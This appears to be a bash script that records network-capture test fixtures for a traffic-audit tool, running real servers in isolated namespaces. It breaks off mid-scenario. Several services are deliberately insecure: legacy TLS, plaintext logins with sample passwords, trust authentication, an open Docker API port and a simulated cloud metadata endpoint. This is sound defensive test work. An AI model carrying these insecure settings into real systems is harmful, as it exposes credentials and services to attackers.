#!/usr/bin/env bash
# Records the real-traffic fixtures of flowwarden: pcaps/<scenario>/capture.pcap + cluster.json.
#
# Each scenario builds a throw-away "node" network namespace holding a bridge (cni0,
# 10.244.1.1/24 and fd00:10:244:1::1/64) and one network namespace per pod, wired to the
# bridge with a veth pair, at the pod IPs that pcaps/cluster.py gives (the one source of
# truth, so cluster.json and the capture agree). Real programs (curl, python3 -m
# http.server, redis, dnsmasq + dig, openssl, nginx, postgresql) talk between the pods
# while tcpdump captures on the bridge inside the node namespace. The host's own network
# is never touched: every address lives inside namespaces this script creates, and the
# EXIT trap kills the processes it started (by pid) and deletes those namespaces.
#
# Usage (root): pcaps/record.sh [SCENARIO ...]     (default: all scenarios)
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ALL_SCENARIOS=(http-allowed-and-denied redis-plaintext dns tls-versions postgres-ssl ipv6-cooked mail-starttls rules-4c)
PREFIX=fwrec
NODE=$PREFIX-node
GW4=10.244.1.1
GW6=fd00:10:244:1::1

log() { printf '[record] %s\n' "$*" >&2; }
die() { log "error: $*"; exit 1; }

[[ $(id -u) -eq 0 ]] || die "run as root (network namespaces): sudo $0"

install_deps() {
    local missing=() cmd pkg
    # command:package; dnsmasq-base is the daemon without its system service.
    for pair in ip:iproute2 ss:iproute2 tcpdump:tcpdump curl:curl redis-server:redis-server \
                redis-cli:redis-tools dnsmasq:dnsmasq-base dig:dnsutils openssl:openssl \
                nginx:nginx-light psql:postgresql setpriv:util-linux python3:python3 \
                dovecot:dovecot-imapd doveadm:dovecot-pop3d vsftpd:vsftpd prosody:prosody \
                slapd:slapd ldapsearch:ldap-utils exim4:exim4-daemon-light; do
        cmd=${pair%%:*}; pkg=${pair#*:}
        if ! command -v "$cmd" >/dev/null 2>&1 && ! [[ -x /usr/sbin/$cmd ]]; then
            missing+=("$pkg")
        fi
    done
    if ! compgen -G '/usr/lib/postgresql/*/bin/initdb' >/dev/null; then missing+=(postgresql); fi
    if ((${#missing[@]})); then
        log "installing: ${missing[*]}"
        apt-get update -qq
        DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${missing[@]}" >/dev/null
    fi
}

# --- bookkeeping: everything we start is undone on exit -----------------------------

TMP=""
NETNS=()   # namespaces we created
PIDS=()    # processes we started

cleanup() {
    local rc=$? pid ns
    trap - EXIT INT TERM
    for pid in "${PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
    for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
    for ns in "${NETNS[@]}"; do del_netns "$ns"; done
    ((ETC_NETNS_MADE)) && rmdir /etc/netns 2>/dev/null
    NETNS=(); PIDS=()
    [[ -n $TMP && -d $TMP && -z ${KEEP_TMP:-} ]] && rm -rf "$TMP"
    exit "$rc"
}

teardown_scenario() {
    local pid ns
    for pid in "${PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
    for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
    for ns in "${NETNS[@]}"; do del_netns "$ns"; done
    NETNS=(); PIDS=()
}

# start_bg NETNS LOGNAME CMD...: start CMD inside NETNS in the background, remember its pid.
start_bg() {
    local ns=$1 name=$2; shift 2
    ip netns exec "$ns" "$@" >"$TMP/$name.log" 2>&1 &
    PIDS+=($!)
}

# inpod POD CMD...: run CMD in pod POD's namespace.
inpod() { local ns=$PREFIX-$1; shift; ip netns exec "$ns" "$@"; }

wait_until() {  # wait_until SECONDS CMD...: poll CMD every 0.1 s
    local deadline=$((SECONDS + $1)); shift
    until "$@" >/dev/null 2>>"$TMP/wait.log"; do
        ((SECONDS < deadline)) || { [[ -n ${DEBUG:-} ]] && { ps -ef --forest >&2; for n in "${NETNS[@]}"; do ip netns exec "$n" ss -ltnup >&2; done; }; die "timed out waiting for: $*"; }
        sleep 0.1
    done
}

listening() {  # listening POD tcp|udp PORT
    local flag=-ltn; [[ $2 == udp ]] && flag=-lun
    inpod "$1" ss -H "$flag" "sport = :$3" | grep -q .
}

stop_pid() {  # stop_pid PID [SIGNAL]: stop one process we started and reap it
    kill "-${2:-TERM}" "$1" 2>/dev/null || true
    wait "$1" 2>/dev/null || true
}

# --- topology -------------------------------------------------------------------------

declare -A POD_IP4=() POD_IP6=()

# add_netns NAME: a namespace whose resolver (via ip-netns' /etc/netns/NAME bind mount)
# points at its own loopback: lookups such as http.server's getfqdn() fail at once instead
# of sending queries through the bridge to the host's resolver.
ETC_NETNS_MADE=0
add_netns() {
    ip netns add "$1"; NETNS+=("$1")
    if [[ ! -d /etc/netns ]]; then mkdir /etc/netns; ETC_NETNS_MADE=1; fi
    mkdir -p "/etc/netns/$1"
    printf 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n' >"/etc/netns/$1/resolv.conf"
    ip -n "$1" link set lo up
}

del_netns() {
    local pid
    # Children our programs forked (dnsmasq TCP workers, nginx/postgres workers).
    for pid in $(ip netns pids "$1" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
    ip netns del "$1" 2>/dev/null || true
    rm -rf "/etc/netns/$1"
}

# make_node IPV6: the node namespace with its bridge. IPv6 stays off unless asked,
# so IPv4 captures carry no router solicitations or MLD reports.
make_node() {
    add_netns "$NODE"
    ip netns exec "$NODE" sysctl -qw net.ipv6.conf.all.disable_ipv6=$((1 - $1)) \
        net.ipv6.conf.default.disable_ipv6=$((1 - $1)) net.ipv6.conf.default.accept_dad=0 \
        net.ipv6.conf.all.accept_dad=0
    # Forwarding stays off: packets for other nodes' pods (10.244.2.0/24) are dropped silently.
    ip -n "$NODE" link add cni0 address 02:42:0a:f4:01:01 type bridge
    ip -n "$NODE" addr add $GW4/24 dev cni0
    (($1)) && ip -n "$NODE" addr add $GW6/64 dev cni0 nodad
    ip -n "$NODE" link set cni0 up
}

# make_pod APP IPV4 IPV6|-: a pod namespace wired to cni0 (MAC derived from the IPv4).
make_pod() {
    local app=$1 v4=$2 v6=$3 ns=$PREFIX-$1 idx=$((${#NETNS[@]}))
    local last=${v4##*.} mac
    mac=$(printf '02:42:0a:f4:01:%02x' "$last")
    add_netns "$ns"
    local v6on=0; [[ $v6 != - ]] && v6on=1
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=$((1 - v6on)) \
        net.ipv6.conf.default.disable_ipv6=$((1 - v6on)) net.ipv6.conf.default.accept_dad=0 \
        net.ipv6.conf.all.accept_dad=0
    ip -n "$NODE" link add "fwv$idx" address "02:42:ac:12:00:$(printf %02x "$idx")" type veth \
        peer name eth0 address "$mac" netns "$ns"
    ip -n "$NODE" link set "fwv$idx" master cni0 up
    ip -n "$ns" addr add "$v4/24" dev eth0
    ip -n "$ns" link set eth0 up
    ip -n "$ns" route add default via $GW4
    if ((v6on)); then
        ip -n "$ns" addr add "$v6/64" dev eth0 nodad
        ip -n "$ns" -6 route add default via $GW6
    fi
    POD_IP4[$app]=$v4; POD_IP6[$app]=$v6
}

# make_host NAME MAC ADDR[,ADDR] [ROUTE ...]: a namespace on cni0 that is not a node-1 pod (another node,
# a pod the inventory puts on another node, a client outside the cluster, the metadata server). Each
# ROUTE is on-link (dev eth0), so its packets cross cni0 once and never a forwarding hop. IPv6 is on
# only when an address is IPv6, and then sends no router solicitations.
make_host() {
    local name=$1 mac=$2 addrs=$3 ns=$PREFIX-$1 idx=${#NETNS[@]} a r v6on=0; shift 3
    [[ $addrs == *:* ]] && v6on=1
    add_netns "$ns"
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=$((1 - v6on)) \
        net.ipv6.conf.default.disable_ipv6=$((1 - v6on)) net.ipv6.conf.default.accept_dad=0 \
        net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.router_solicitations=0
    ip -n "$NODE" link add "fwv$idx" address "02:42:ac:12:00:$(printf %02x "$idx")" type veth \
        peer name eth0 address "$mac" netns "$ns"
    ip -n "$NODE" link set "fwv$idx" master cni0 up
    for a in ${addrs//,/ }; do
        if [[ $a == *:* ]]; then ip -n "$ns" addr add "$a" dev eth0 nodad; else ip -n "$ns" addr add "$a" dev eth0; fi
    done
    ip -n "$ns" link set eth0 up
    for r in "$@"; do ip -n "$ns" route add "$r" dev eth0; done
}

# setup SCENARIO IPV6: node + every node-1 pod of the scenario; writes cluster.json.
setup() {
    local app kns v4 v6
    mkdir -p "$HERE/$1"
    POD_IP4=(); POD_IP6=()
    make_node "$2"
    while read -r app kns v4 v6; do
        make_pod "$app" "$v4" "$v6"
    done < <(python3 "$HERE/cluster.py" pods "$1")
    python3 "$HERE/cluster.py" json "$1" >"$HERE/$1/cluster.json"
}

# capture_start SCENARIO [NETNS IFACE LINKTYPE]: tcpdump -s 0, waits until it listens.
CAP_PID=""
capture_start() {
    local out=$HERE/$1/capture.pcap ns=${2:-$NODE} ifc=${3:-cni0} lt=()
    [[ -n ${4:-} ]] && lt=(-y "$4")
    rm -f "$out"
    ip netns exec "$ns" tcpdump -i "$ifc" "${lt[@]}" -s 0 -U --immediate-mode -n -w "$out" 2>"$TMP/tcpdump.log" &
    CAP_PID=$!; PIDS+=("$CAP_PID")
    wait_until 10 grep -q 'listening on' "$TMP/tcpdump.log"
    sleep 0.3
}

capture_stop() {
    sleep 0.5  # let the last FIN/ACKs land
    stop_pid "$CAP_PID" INT
    grep -E 'captured|dropped' "$TMP/tcpdump.log" | sed 's/^/[tcpdump] /' >&2 || true
}

# --- scenarios ------------------------------------------------------------------------

scenario_http_allowed_and_denied() {
    setup http-allowed-and-denied 0
    local api=${POD_IP4[api]}
    mkdir -p "$TMP/www"; printf 'hello from api\n' >"$TMP/www/index.html"
    start_bg $PREFIX-api http-server python3 -m http.server 8080 --bind "$api" --directory "$TMP/www"
    local server=$!
    wait_until 10 listening api tcp 8080
    capture_start http-allowed-and-denied
    # Allowed by api/api-allow-frontend: two connections from web/frontend.
    inpod frontend curl -sS -o /dev/null "http://$api:8080/"
    inpod frontend curl -sS -o /dev/null "http://$api:8080/healthz" || true  # 404 is fine
    # Denied by the policy, yet it connects: nothing enforces it here.
    inpod batch-job curl -sS -o /dev/null "http://$api:8080/"
    # Nobody listens on 9090: SYN answered by RST.
    inpod frontend curl -sS -o /dev/null "http://$api:9090/" || true
    # api's replica on node-2 is unreachable from node-1: SYNs without answer.
    inpod frontend curl -sS -o /dev/null --connect-timeout 2 "http://10.244.2.50:8080/" || true
    capture_stop
    stop_pid "$server"
    teardown_scenario
}

scenario_redis_plaintext() {
    setup redis-plaintext 0
    local redis=${POD_IP4[redis]}
    start_bg $PREFIX-redis redis-server redis-server --bind "$redis" --port 6379 --save '' \
        --appendonly no --protected-mode no --daemonize no --dir "$TMP"
    local server=$!
    wait_until 10 listening redis tcp 6379
    capture_start redis-plaintext
    inpod checkout redis-cli -h "$redis" -p 6379 PING
    # Commands as arguments: fed on stdin, redis-cli would first fetch COMMAND DOCS (~170 KB).
    inpod checkout redis-cli -h "$redis" -p 6379 SET cart:42 "2x espresso"
    inpod checkout redis-cli -h "$redis" -p 6379 GET cart:42
    capture_stop
    stop_pid "$server"
    teardown_scenario
}

scenario_dns() {
    setup dns 0
    local dnsd=${POD_IP4[kube-dns]}
    start_bg $PREFIX-kube-dns dnsmasq dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts \
        --bind-interfaces --listen-address="$dnsd" --port=53 --pid-file= --user=root \
        --local=/cluster.local/ \
        --host-record=api.api.svc.cluster.local,10.96.120.20 \
        --host-record=redis.data.svc.cluster.local,10.96.64.41 \
        --host-record=kube-dns.kube-system.svc.cluster.local,10.96.0.10 \
        --log-queries --log-facility=-
    local server=$!
    wait_until 10 listening kube-dns udp 53
    wait_until 10 listening kube-dns tcp 53
    capture_start dns
    local q=(+tries=1 +time=2 +nocookie +short)
    inpod resolver-test dig "${q[@]}" @"$dnsd" api.api.svc.cluster.local A
    inpod resolver-test dig "${q[@]}" @"$dnsd" api.api.svc.cluster.local AAAA
    inpod resolver-test dig "${q[@]}" @"$dnsd" nosuch.default.svc.cluster.local A
    # The one TCP query: egress-dns-udp-only allows UDP 53 only.
    inpod resolver-test dig "${q[@]}" +tcp @"$dnsd" redis.data.svc.cluster.local A
    capture_stop
    stop_pid "$server"
    teardown_scenario
}

scenario_tls_versions() {
    setup tls-versions 0
    local legacy=${POD_IP4[legacy-tls]} web=${POD_IP4[web]} pids=() i v
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMP/tls.key" -out "$TMP/tls.crt" -days 30 \
        -subj "/CN=web.secure.svc" \
        -addext "subjectAltName=DNS:web.secure.svc,DNS:legacy-tls.secure.svc" 2>/dev/null
    local sec0=(-cipher 'DEFAULT:@SECLEVEL=0')
    local flags=(-tls1 -tls1_1 -tls1_2 -tls1_3)
    for i in 0 1 2 3; do
        v=${flags[$i]}
        start_bg $PREFIX-legacy-tls "s_server$i" openssl s_server -accept "$legacy:441$i" -naccept 1 -quiet \
            -cert "$TMP/tls.crt" -key "$TMP/tls.key" "$v" "${sec0[@]}"
        pids+=($!)
    done
    mkdir -p "$TMP/nginx"
    cat >"$TMP/nginx/nginx.conf" <<EOF
daemon off;
worker_processes 1;
pid $TMP/nginx/nginx.pid;
error_log $TMP/nginx/error.log;
events { worker_connections 64; }
http {
    access_log $TMP/nginx/access.log;
    client_body_temp_path $TMP/nginx/body;
    server {
        listen $web:80;
        listen $web:443 ssl http2;
        server_name web.secure.svc;
        ssl_certificate $TMP/tls.crt;
        ssl_certificate_key $TMP/tls.key;
        ssl_protocols TLSv1.2 TLSv1.3;
        location / { default_type text/plain; return 200 "hello from web\n"; }
    }
}
EOF
    start_bg $PREFIX-web nginx nginx -p "$TMP/nginx" -e "$TMP/nginx/error.log" -c "$TMP/nginx/nginx.conf"
    local nginx=$!
    for i in 0 1 2 3; do wait_until 10 listening legacy-tls tcp "441$i"; done
    wait_until 10 listening web tcp 443
    capture_start tls-versions
    for i in 0 1 2 3; do
        v=${flags[$i]}
        echo "ping $v" | inpod probe timeout 10 openssl s_client -connect "$legacy:441$i" \
            -servername legacy-tls.secure.svc "$v" "${sec0[@]}" >"$TMP/s_client$i.log" 2>&1 \
            || log "s_client $v failed: $(tail -3 "$TMP/s_client$i.log")"
        grep -E '^New, ' "$TMP/s_client$i.log" | head -1 >&2 || true
    done
    # nginx: ALPN h2 over TLS 1.3, then ALPN http/1.1 pinned to TLS 1.2, then plaintext port 80.
    local res=(--resolve "web.secure.svc:443:$web")
    inpod probe curl -sS -k -o /dev/null -w 'curl %{http_version} %{http_code}\n' "${res[@]}" \
        https://web.secure.svc/
    inpod probe curl -sS -k -o /dev/null -w 'curl %{http_version} %{http_code}\n' "${res[@]}" \
        --http1.1 --tlsv1.2 --tls-max 1.2 https://web.secure.svc/
    inpod probe curl -sS -o /dev/null -w 'curl %{http_version} %{http_code} (plaintext)\n' \
        "http://$web/"
    capture_stop
    for i in "${pids[@]}"; do stop_pid "$i"; done
    stop_pid "$nginx" QUIT
    teardown_scenario
}

scenario_postgres_ssl() {
    setup postgres-ssl 0
    local pg=${POD_IP4[postgres]} bin
    bin=$(ls -d /usr/lib/postgresql/*/bin | sort -V | tail -1)
    local pgdir=$TMP/pg
    mkdir -p "$pgdir"; chmod 755 "$TMP"; chown postgres:postgres "$pgdir"
    local as_pg=(setpriv --reuid=postgres --regid=postgres --init-groups)
    "${as_pg[@]}" "$bin/initdb" -D "$pgdir/data" -U postgres --auth=trust -E UTF8 \
        --no-instructions >"$TMP/initdb.log" 2>&1
    echo "host all all 10.244.1.0/24 trust" >>"$pgdir/data/pg_hba.conf"
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$pgdir/server.key" -out "$pgdir/server.crt" \
        -days 30 -subj "/CN=postgres.db.svc" 2>/dev/null
    chown postgres:postgres "$pgdir/server.key" "$pgdir/server.crt"; chmod 600 "$pgdir/server.key"
    start_bg $PREFIX-postgres postgres "${as_pg[@]}" "$bin/postgres" -D "$pgdir/data" \
        -c listen_addresses="$pg" -c unix_socket_directories="$pgdir" -c ssl=on \
        -c ssl_cert_file="$pgdir/server.crt" -c ssl_key_file="$pgdir/server.key" \
        -c shared_buffers=16MB -c max_connections=10
    local server=$!
    wait_until 20 listening postgres tcp 5432
    capture_start postgres-ssl
    local conn="host=$pg port=5432 user=postgres dbname=postgres gssencmode=disable"
    inpod invoicer psql -X -A -t "$conn sslmode=require" \
        -c "select 'ssl=' || ssl || ' ' || version from pg_stat_ssl where pid = pg_backend_pid()"
    inpod invoicer psql -X -A -t "$conn sslmode=disable" \
        -c "select 'ssl=' || ssl from pg_stat_ssl where pid = pg_backend_pid()"
    capture_stop
    stop_pid "$server" INT
    teardown_scenario
}

scenario_ipv6_cooked() {
    setup ipv6-cooked 1
    local srv6=${POD_IP6[server]} srv4=${POD_IP4[server]} lt=LINUX_SLL
    mkdir -p "$TMP/www"; printf 'hello over IPv6\n' >"$TMP/www/index.html"
    start_bg $PREFIX-server http-server python3 -m http.server 8080 --bind :: --directory "$TMP/www"
    local server=$!
    wait_until 10 listening server tcp 8080
    # Cooked capture on "any" inside the client pod: one copy of each packet (in the node
    # namespace "any" would see every packet on both veths and the bridge).
    if [[ $(inpod client tcpdump -i any -L 2>&1) == *LINUX_SLL2* ]]; then lt=LINUX_SLL2; fi
    capture_start ipv6-cooked $PREFIX-client any "$lt"
    inpod client curl -sS -o /dev/null -w 'curl %{remote_ip} %{http_code}\n' -g "http://[$srv6]:8080/"
    inpod client curl -sS -o /dev/null -w 'curl %{remote_ip} %{http_code}\n' "http://$srv4:8080/"
    capture_stop
    stop_pid "$server"
    teardown_scenario
}

scenario_mail_starttls() {
    setup mail-starttls 0
    local imap=${POD_IP4[dovecot]} ftp=${POD_IP4[vsftpd]} d=$TMP/dovecot f=$TMP/vsftpd
    mkdir -p "$d/run" "$d/mail" "$f/pub" "$f/empty"
    chmod 755 "$TMP"
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMP/key.pem" -out "$TMP/cert.pem" -days 30 \
        -subj "/CN=mail.svc" 2>/dev/null
    echo "alice:{PLAIN}wonderland" >"$d/users"
    chown -R dovecot:dovecot "$d/mail"
    printf '%s\n' "protocols = imap pop3" "listen = $imap" "base_dir = $d/run" "log_path = $d/dovecot.log" \
        "ssl = yes" "ssl_cert = <$TMP/cert.pem" "ssl_key = <$TMP/key.pem" "disable_plaintext_auth = no" \
        "auth_mechanisms = plain login" "first_valid_uid = 1" "mail_location = maildir:$d/mail/%u" \
        "passdb {" "  driver = passwd-file" "  args = $d/users" "}" \
        "userdb {" "  driver = static" "  args = uid=dovecot gid=dovecot home=$d/mail/%u" "}" >"$d/dovecot.conf"
    start_bg $PREFIX-dovecot dovecot dovecot -F -c "$d/dovecot.conf"
    local dovecot=$!
    printf 'hello over FTP\n' >"$f/pub/hello.txt"
    printf '%s\n' listen=YES "listen_address=$ftp" background=NO anonymous_enable=YES "anon_root=$f/pub" \
        no_anon_password=YES local_enable=NO write_enable=NO pasv_min_port=21100 pasv_max_port=21110 \
        "secure_chroot_dir=$f/empty" seccomp_sandbox=NO ssl_enable=YES allow_anon_ssl=YES \
        force_anon_logins_ssl=NO force_anon_data_ssl=NO require_ssl_reuse=NO "rsa_cert_file=$TMP/cert.pem" \
        "rsa_private_key_file=$TMP/key.pem" "vsftpd_log_file=$f/vsftpd.log" >"$f/vsftpd.conf"
    start_bg $PREFIX-vsftpd vsftpd vsftpd "$f/vsftpd.conf"
    local vsftpd=$!
    local xmpp=${POD_IP4[prosody]} x=$TMP/prosody
    mkdir -p "$x/data"; chmod 644 "$TMP/key.pem"; chown -R prosody "$x"
    printf '%s\n' 'daemonize = false' "pidfile = \"$x/prosody.pid\"" "data_path = \"$x/data\"" \
        "interfaces = { \"$xmpp\" }" 'c2s_ports = { 5222 }' 'modules_disabled = { "s2s" }' \
        "log = { info = \"$x/prosody.log\" }" 'modules_enabled = { "saslauth"; "tls"; "disco"; "ping" }' \
        'c2s_require_encryption = true' 'authentication = "internal_plain"' \
        'VirtualHost "chat.example"' "  ssl = { certificate = \"$TMP/cert.pem\"; key = \"$TMP/key.pem\" }" \
        >"$x/prosody.cfg.lua"
    start_bg $PREFIX-prosody prosody setpriv --reuid=prosody --regid=prosody --init-groups \
        prosody --config "$x/prosody.cfg.lua"
    local prosody=$!
    wait_until 15 listening prosody tcp 5222
    local ldap=${POD_IP4[openldap]} l=$TMP/slapd
    mkdir -p "$l/db"
    printf '%s\n' 'include /etc/ldap/schema/core.schema' 'modulepath /usr/lib/ldap' 'moduleload back_mdb' \
        "pidfile $l/slapd.pid" "TLSCertificateFile $TMP/cert.pem" "TLSCertificateKeyFile $TMP/key.pem" \
        'database mdb' 'suffix "dc=example,dc=org"' 'rootdn "cn=admin,dc=example,dc=org"' 'rootpw secret' \
        "directory $l/db" >"$l/slapd.conf"
    start_bg $PREFIX-openldap slapd slapd -d 0 -h "ldap://$ldap/" -f "$l/slapd.conf"
    local slapd=$!
    wait_until 10 listening openldap tcp 389
    local smtp=${POD_IP4[exim]} e=$TMP/exim
    mkdir -p "$e/spool"; chown -R Debian-exim "$e"
    printf '%s\n' 'primary_hostname = mail.svc' 'daemon_smtp_ports = 25' "local_interfaces = $smtp" \
        'tls_advertise_hosts = *' "tls_certificate = $TMP/cert.pem" "tls_privatekey = $TMP/key.pem" \
        "spool_directory = $e/spool" "log_file_path = $e/%slog" 'acl_smtp_rcpt = accept' \
        'begin routers' 'discard:' '  driver = redirect' '  data = :blackhole:' >"$e/exim.conf"
    start_bg $PREFIX-exim exim exim4 -bdf -C "$e/exim.conf"
    local exim=$!
    wait_until 10 listening exim tcp 25
    wait_until 10 listening dovecot tcp 143
    wait_until 10 listening dovecot tcp 110
    wait_until 10 listening vsftpd tcp 21
    capture_start mail-starttls
    # curl asks for the capabilities first and upgrades after the answer, as mail clients do.
    printf 'Subject: hello\r\n\r\nover STARTTLS\r\n' >"$TMP/mail.txt"
    inpod mailer curl -sS -k --ssl-reqd --mail-from a@office.example --mail-rcpt b@mail.example \
        -T "$TMP/mail.txt" "smtp://$smtp/office.example"                       # EHLO, STARTTLS
    inpod mailer curl -sS -k --ssl-reqd -u alice:wonderland "imap://$imap/"   # CAPABILITY, STARTTLS
    inpod mailer curl -sS -k --ssl-reqd -u alice:wonderland "pop3://$imap/"   # CAPA, STLS
    inpod mailer curl -sS -u alice:wonderland "imap://$imap/"                  # LOGIN in plaintext
    inpod mailer curl -sS -k --ssl-reqd --ftp-pasv "ftp://$ftp/hello.txt"     # AUTH TLS, PROT P
    inpod mailer curl -sS --ftp-pasv "ftp://$ftp/hello.txt"                    # plaintext, data too
    # XMPP: stream header, <stream:features> with <starttls/>, <starttls/>, <proceed/>, then TLS.
    inpod mailer openssl s_client -starttls xmpp -xmpphost chat.example -connect "$xmpp:5222" \
        </dev/null 2>&1 | grep -E '^(CONNECTED|New,|Protocol)' || true
    # LDAP: the StartTLS extended request (RFC 4511 §4.14), then the search over TLS; and one without.
    inpod mailer env LDAPTLS_REQCERT=never ldapsearch -x -ZZ -LLL -H "ldap://$ldap/" -b "" -s base namingContexts
    inpod mailer ldapsearch -x -LLL -H "ldap://$ldap/" -b "" -s base namingContexts
    capture_stop
    stop_pid "$exim"
    stop_pid "$slapd"
    stop_pid "$prosody"
    stop_pid "$vsftpd"
    stop_pid "$dovecot"
    teardown_scenario
}

# rules-4c: the network-visible controls of Kubernetes' 4C's (issue #13). The node namespace is
# node-1 (172.18.0.2 on cni0 beside the pods' gateway) and so also the hostNetwork pod
# monitoring/node-exporter; cp-1 and cp-2 (control plane), a client outside the cluster, the cloud's
# metadata server and kube-system/cp-agent (a pod the inventory puts on cp-1) are namespaces on the
# same bridge. Pods reach 172.18.0.0/24 and the metadata addresses on-link: every packet crosses
# cni0 once (the node namespace forwards nothing).
IMDS4=169.254.169.254
IMDS6=fd00:ec2::254
EXTERNAL=172.18.0.100  # in no cluster object: outside the cluster

pause() { sleep 0.2; }  # flows apart in time

tcp_listeners() {  # tcp_listeners NETNS PORT [N]: at least N (1) TCP sockets listen on PORT in NETNS
    (($(ip netns exec "$1" ss -H -ltn "sport = :$2" | wc -l) >= ${3:-1}))
}

# tls_probe NETNS HOST:PORT [SNI]: a TLS handshake (openssl s_client, no request), then close_notify.
tls_probe() {
    local out
    out=$(ip netns exec "$1" timeout 10 openssl s_client -connect "$2" -servername "${3:-rules-4c}" </dev/null 2>&1) \
        || log "s_client $1 -> $2 failed: $(tail -2 <<<"$out")"
    log "s_client ${1#"$PREFIX-"} -> $2: $(grep -m1 -E '^New, ' <<<"$out")"
}

# http_probe NETNS CURL_ARGS...: curl, logging the HTTP status (000: no HTTP answer; curl's error in curl.log).
http_probe() {
    local ns=$1 code; shift
    code=$(ip netns exec "$ns" curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "$@" 2>>"$TMP/curl.log") || true
    log "curl ${ns#"$PREFIX-"} $*: $code"
}

scenario_rules_4c() {
    setup rules-4c 0
    declare -A nip=()
    local name ip app kns v4 v6
    while read -r name ip; do nip[$name]=$ip; done < <(python3 "$HERE/cluster.py" nodes rules-4c)
    local n1=${nip[node-1]} cp1=${nip[cp-1]} cp2=${nip[cp-2]}
    local api=${POD_IP4[api]} imap=${POD_IP4[dovecot]} smtp=${POD_IP4[exim]}
    local ftp=${POD_IP4[vsftpd]} dnsd=${POD_IP4[dnsmasq]}
    # node-1's InternalIP on the bridge; the metadata server is on-link from the node too.
    ip -n "$NODE" addr add "$n1/24" dev cni0
    ip -n "$NODE" route add "$IMDS4/32" dev cni0 src "$n1"
    # The client pod reaches nodes, the external client's network and the metadata server on-link.
    ip -n $PREFIX-client route add 172.18.0.0/24 dev eth0
    ip -n $PREFIX-client route add "$IMDS4/32" dev eth0
    ip -n $PREFIX-client -6 route add "$IMDS6/128" dev eth0
    ip netns exec $PREFIX-client sysctl -qw net.ipv6.conf.eth0.router_solicitations=0
    make_host cp-1 02:42:ac:12:01:04 "$cp1/24" 10.244.0.0/16
    make_host cp-2 02:42:ac:12:01:05 "$cp2/24" 10.244.0.0/16
    make_host external 02:42:ac:12:01:64 "$EXTERNAL/24"
    make_host metadata 02:42:a9:fe:a9:fe "$IMDS4/32,$IMDS6/128" 10.244.1.0/24 172.18.0.0/24 fd00:10:244:1::/64
    # kube-system/cp-agent: on cp-1 for the inventory, here one more namespace on the bridge.
    while read -r app kns v4 v6; do
        make_host "$app" "$(printf '02:42:0a:f4:00:%02x' "${v4##*.}")" "$v4/24" 172.18.0.0/24
    done < <(python3 "$HERE/cluster.py" pods rules-4c cp-1)

    local t=$TMP/rules-4c  # this scenario's own files (the other scenarios' stay apart)
    mkdir -p "$t"; chmod 755 "$TMP" "$t"
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$t/tls.key" \
        -out "$t/tls.crt" -days 30 -subj "/CN=rules-4c" \
        -addext "subjectAltName=DNS:rules-4c,IP:$cp1,IP:$n1" 2>/dev/null
    local pids=() www=$t/www imds=$t/imds
    mkdir -p "$www" "$imds/latest/meta-data"
    printf 'hello\n' >"$www/index.html"
    printf '{"kind":"PodList","apiVersion":"v1","items":[]}\n' >"$www/pods"
    printf '{"Version":"24.0.7","ApiVersion":"1.43"}\n' >"$www/version"
    printf 'node_load1 0.42\n' >"$www/metrics"
    printf 'ami-id\nhostname\niam/\ninstance-id\nlocal-ipv4\n' >"$imds/latest/meta-data/index.html"
    # bg_http NETNS LOG ADDR PORT DIR / bg_tls NETNS LOG ADDR PORT: a listener we stop at the end.
    bg_http() { start_bg "$1" "$2" python3 -m http.server "$4" --bind "$3" --directory "$5"; pids+=($!); }
    bg_tls() {
        start_bg "$1" "$2" openssl s_server -www -accept "$3:$4" -cert "$t/tls.crt" -key "$t/tls.key"
        pids+=($!)
    }
    bg_http $PREFIX-metadata imds4 "$IMDS4" 80 "$imds"
    bg_http $PREFIX-metadata imds6 "$IMDS6" 80 "$imds"
    bg_tls $PREFIX-cp-1 etcd-client "$cp1" 2379
    bg_http $PREFIX-cp-1 etcd-peer "$cp1" 2380 "$www"       # plaintext on an etcd port
    bg_tls $PREFIX-cp-1 apiserver "$cp1" 6443
    bg_tls "$NODE" kubelet "$n1" 10250
    bg_http "$NODE" kubelet-ro "$n1" 10255 "$www"
    bg_http "$NODE" dockerd "$n1" 2375 "$www"
    bg_tls "$NODE" dockerd-tls "$n1" 2376
    bg_http "$NODE" nodeport-web "$n1" 30080 "$www"         # stands in for kube-proxy's NodePorts
    bg_http "$NODE" nodeport-store "$n1" 30081 "$www"
    bg_http "$NODE" node-exporter "$n1" 9100 "$www"         # the hostNetwork pod's listener
    bg_http $PREFIX-api api "$api" 8080 "$www"

    # Dovecot without TLS (no STARTTLS offered), plaintext authentication allowed.
    local d=$t/dovecot f=$t/vsftpd e=$t/exim
    mkdir -p "$d/run" "$d/mail" "$f/pub" "$f/empty" "$e/spool"
    echo "alice:{PLAIN}wonderland" >"$d/users"
    chown -R dovecot:dovecot "$d/mail"
    printf '%s\n' "protocols = imap pop3" "listen = $imap" "base_dir = $d/run" "log_path = $d/dovecot.log" \
        "ssl = no" "disable_plaintext_auth = no" "auth_mechanisms = plain login" "first_valid_uid = 1" \
        "mail_location = maildir:$d/mail/%u" \
        "passdb {" "  driver = passwd-file" "  args = $d/users" "}" \
        "userdb {" "  driver = static" "  args = uid=dovecot gid=dovecot home=$d/mail/%u" "}" >"$d/dovecot.conf"
    start_bg $PREFIX-dovecot dovecot dovecot -F -c "$d/dovecot.conf"; pids+=($!)
    # vsftpd without TLS: anonymous logins, and local logins that ask for a password (alice has no
    # account here: PAM refuses her after the PASS has crossed).
    printf 'hello over FTP\n' >"$f/pub/hello.txt"
